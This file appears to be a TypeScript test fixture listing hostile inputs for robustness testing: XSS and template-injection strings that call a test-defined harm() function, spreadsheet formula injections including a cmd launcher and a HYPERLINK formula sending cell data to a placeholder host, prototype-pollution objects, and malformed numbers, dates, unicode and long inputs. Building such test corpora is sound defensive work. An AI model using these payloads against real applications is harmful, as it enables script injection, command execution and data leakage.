/** Texts of kinds that have harmed other programs. What runs calls `harm`, which a test defines. */

/** Markup and addresses that run a script wherever text is taken for more than text. */
export const scripts: readonly string[] = [
  '<script>harm()</script>',
  '<img src=x onerror=harm()>',
  '"><img src=x onerror="harm()">',
  "'><svg/onload=harm()>",
  '</textarea><script>harm()</script>',
  '</title><svg onload=harm()>',
  '</style><iframe srcdoc="<script>parent.harm()</script>">',
  '<details open ontoggle=harm()>',
  '<input autofocus onfocus=harm()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=harm()>',
  '<a href="javascript:harm()">x</a>',
  'javascript:harm()',
  'data:text/html,<script>harm()</script>',
  '{{constructor.constructor("harm()")()}}',
  '${harm()}',
  "$t(harm) $t('<img src=x onerror=harm()>') {{t}}",
  '<0><img src=x onerror=harm()></0>',
  '&lt;img src=x onerror=harm()&gt;',
  '\\u003cimg src=x onerror=harm()\\u003e',
];

/** What a spreadsheet takes for a formula. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.invalid/?"&A1,"open")',
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  '%0A=1+1',
];

/** Names that every object has. */
export const inherited: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'toJSON',
  'then',
  'length',
];

/** Characters that turn, hide or cut what stands around them. */
const signs: readonly string[] = [
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200f',
  '\u061c',
  '\ufeff',
  '\u0000',
  '\ud800',
  '\udfff',
  '\u2028',
  '\u00a0',
  '\u200b',
  '\u0085',
  '\uffff',
  '\u0301'.repeat(50),
  '👩‍👩‍👧‍👦',
];

const numbers: readonly string[] = [
  '1e400',
  '-1e400',
  '-0',
  '1e-400',
  '9007199254740993',
  '99999999999999999999999999999999',
  '0.1e1',
  '0x10',
  '１２００',
  '٣٤',
  '1,23',
  'nan',
  'Infinity',
  '-1',
  '1_000',
  '3万5',
  '99億億',
  '٪50',
  '100.0000000000000000000001',
];

const times: readonly string[] = [
  '0000-01-01 00:00',
  '0000-00-00',
  '99999-12-31T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-02-30 25:61',
  '2026-03-08 02:30 America/New_York',
  '2026-12-31T24:00:00',
  '2016-12-31T23:59:60Z',
  '2026-03-20T10:00:00.9999999999+99:99',
  '令和0年1月1日',
  '32/13/2026',
  '１０：００',
  '晚上12点',
  '253402300800000',
  '1e18',
];

/** Made to take long: long runs, and quotes and brackets that never close. */
const long: readonly string[] = [
  'a'.repeat(5000),
  ' '.repeat(5000),
  '1'.repeat(5000),
  '"'.repeat(5000),
  ',"a'.repeat(2000),
  '1,'.repeat(3000),
  '1 '.repeat(3000),
  '['.repeat(5000),
  '{"a":'.repeat(2000),
  '&#x41;'.repeat(1000),
  '万'.repeat(3000),
  '2026-03-20 '.repeat(500),
  '\n'.repeat(5000),
  '<'.repeat(3000),
];

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...formulas,
  ...inherited,
  ...signs,
  ...numbers,
  ...times,
  ...long,
];

export const hostileValues: readonly unknown[] = [
  ...hostileTexts,
  null,
  true,
  -0,
  0.5,
  -1,
  2 ** 53,
  1e308,
  [],
  {},
  [[]],
  [null],
  JSON.parse('{"__proto__": {"polluted": true}}'),
  { constructor: { prototype: { polluted: true } } },
  { toString: 1, valueOf: null },
  { length: 1e9 },
];
